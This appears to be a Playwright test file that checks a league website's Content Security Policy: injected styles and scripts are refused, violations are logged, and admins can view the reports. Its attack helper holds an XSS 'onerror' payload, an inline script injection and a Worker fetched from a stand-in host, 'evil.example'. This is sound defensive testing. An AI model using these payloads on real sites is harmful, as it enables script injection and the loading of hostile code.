import type { Page } from '@playwright/test';
import { expect, phone, test } from './fixtures.js';

/** Tries what an injected script would try. Returns the outcomes. */
const attack = (page: Page) =>
  page.evaluate(() => {
    const outcome: string[] = [];
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.append(style);
    outcome.push(`style ${getComputedStyle(document.body).outlineStyle}`);
    document.body.setAttribute('style', 'outline: 7px solid red');
    outcome.push(`attribute ${getComputedStyle(document.body).outlineStyle}`);
    const script = document.createElement('script');
    const attempts = {
      script: () => {
        script.text = 'document.title = "attacked"';
        document.head.append(script);
      },
      markup: () => (document.createElement('div').innerHTML = '<img src=x onerror="document.title=`attacked`">'),
      worker: () => new Worker('https://evil.example/worker.js'),
    };
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        attempt();
        outcome.push(`${name} done`);
      } catch (error) {
        outcome.push(`${name} ${(error as Error).name}`);
      }
    }
    return [...outcome, document.title === 'attacked' ? 'attacked' : 'not attacked'];
  });

// proves: attack-6, attack-8
test('a page applies no foreign style and runs no foreign script, and admins see the attempts', async ({
  league,
  open,
  pageErrors,
}) => {
  const page = await open('member');
  for (const address of ['/standings?season=2023', '/users/tardozzi']) {
    await page.goto(address);
    await expect(page.getByRole('heading').first()).toBeVisible();
    const outcome = await attack(page);
    const refused = ['script TypeError', 'markup TypeError', 'worker TypeError', 'not attacked'];
    expect(outcome).toEqual(['style none', 'attribute none', ...refused]);
  }
  const reported = async () => {
    const rows: { page: string; directive: string }[] = await league.database.query(
      'SELECT DISTINCT page, directive FROM csp_reports ORDER BY 1, 2',
    );
    return rows.map((row) => `${row.page} ${row.directive}`);
  };
  await expect
    .poll(reported)
    .toEqual([
      '/standings require-trusted-types-for',
      '/standings style-src-attr',
      '/standings style-src-elem',
      '/users/:username require-trusted-types-for',
      '/users/:username style-src-attr',
      '/users/:username style-src-elem',
    ]);
  pageErrors.length = 0;

  const admin = await open('admin');
  await admin.goto('/admin/csp-reports');
  await expect(admin.getByText('/users/:username').first()).toBeVisible();
  await expect(admin.locator('body')).not.toContainText('tardozzi');
});

// proves: attack-6
test(
  'a dialog stops the page behind it from scrolling, because its style has the nonce of the page',
  { tag: '@long' },
  async ({ open }) => {
    const page = await open('visitor', phone);
    await page.goto('/standings?season=2023');
    await page.getByRole('button').filter({ hasText: 'tardozzi' }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await expect(page.locator('body')).toHaveCSS('overflow', 'hidden');
  },
);

// proves: site-16, attack-6
test(
  'the site administration and the queue board load without a policy violation',
  { tag: '@long' },
  async ({ open }) => {
    const page = await open('admin');
    for (const address of ['/admin/', '/admin/members', '/admin/members/1', '/admin/csp-reports']) {
      await page.goto(address);
      await expect(page.locator('main')).toHaveCSS('display', 'grid');
    }
    await page.goto('/admin/queues');
    await expect(page.getByText('Queues').first()).toBeVisible();
    await expect(page.getByText('standings').first()).toBeVisible();
  },
);
